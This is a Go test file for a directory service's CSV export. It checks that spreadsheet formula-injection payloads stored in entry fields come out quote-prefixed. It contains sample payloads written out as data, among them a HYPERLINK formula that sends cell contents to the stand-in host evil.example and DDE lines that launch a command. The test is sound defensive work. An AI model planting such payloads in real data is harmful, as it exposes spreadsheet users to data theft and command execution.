package graph_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/samverkanshub/hub/internal/directory"
)

// formulaAttacks are what an ORG_ADMIN may save in any free-text field of
// an entry and a spreadsheet opening the export would run (issue 11,
// finding 8).
var formulaAttacks = []string{
	`=HYPERLINK("https://evil.example/?d="&A1,"Klicka här")`,
	`=cmd|' /C calc'!A0`,
	`@SUM(1+1)`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

func TestDirectoryExport_NoCellOfTheNationalExportStartsAsAFormula(t *testing.T) {
	t.Parallel()
	srv, b := setup(t)
	var first string
	for _, attack := range formulaAttacks {
		in := insatsInput()
		in["functionName"] = attack
		in["description"] = attack
		in["targetGroups"] = []string{attack, "unga vuxna"}
		in["expectedAnswer"] = attack
		in["contactPersons"] = []string{attack}
		in["channels"] = []map[string]any{{"kind": "PHONE", "value": "+46 771 524 524", "note": attack, "visibility": "FEDERATION"}}
		if first != "" {
			in["fallbackEntryId"] = first // written by its function name, the first attack
		}
		var got upsertResult
		mustData(t, postAs(t, srv, "admin.samspelet", upsertMutation, map[string]any{"input": in}), &got)
		if first == "" {
			first = got.UpsertDirectoryEntry.ID
		}
	}

	// What `hub directory export` without --org runs, on the owner's pool.
	var buf bytes.Buffer
	_, err := directory.Export(context.Background(), b.db.Pool, nil, &buf)
	require.NoError(t, err)
	recs, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	for i, r := range recs {
		for j, cell := range r {
			if cell != "" {
				require.NotContains(t, "=+-@\t\r", cell[:1], "record %d, column %s: %q", i, directory.CSVHeader[j], cell)
			}
		}
	}
	// The attacks are there, each behind a quote, in every column they
	// were saved in.
	count := func(column, cell string) int {
		j := slices.Index(directory.CSVHeader, column)
		n := 0
		for _, r := range recs {
			if r[j] == cell {
				n++
			}
		}
		return n
	}
	for _, attack := range formulaAttacks {
		quoted := "'" + attack
		listed := quoted // a list writes a carriage return as \r, which starts no formula
		if attack[0] == '\r' {
			listed = `\r` + attack[1:]
		}
		require.NotZero(t, count("function_name", "'"+strings.TrimSpace(attack)), "saving trims a function's name")
		require.Equal(t, 1, count("description", quoted), "%q", attack)
		require.Equal(t, 1, count("expected_answer", quoted), "%q", attack)
		require.Equal(t, 1, count("contact_persons", listed), "%q", attack)
		require.Equal(t, 1, count("target_groups", listed+";unga vuxna"), "%q", attack)
	}
	require.Equal(t, len(formulaAttacks)-1, count("fallback", "'"+formulaAttacks[0]), "a fallback is written by its name")
}
